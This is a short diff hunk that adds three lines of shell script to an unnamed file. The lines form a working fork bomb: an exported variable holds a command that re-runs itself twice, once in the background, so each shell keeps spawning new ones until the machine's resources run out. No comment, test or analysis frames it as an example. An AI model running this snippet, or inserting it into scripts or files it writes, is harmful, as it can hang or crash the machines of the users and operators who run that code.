@@ -1,0 +1,3 @@
+x='sh -c "$x"; sh -c "$x" &'
+export x
+sh -c "$x"
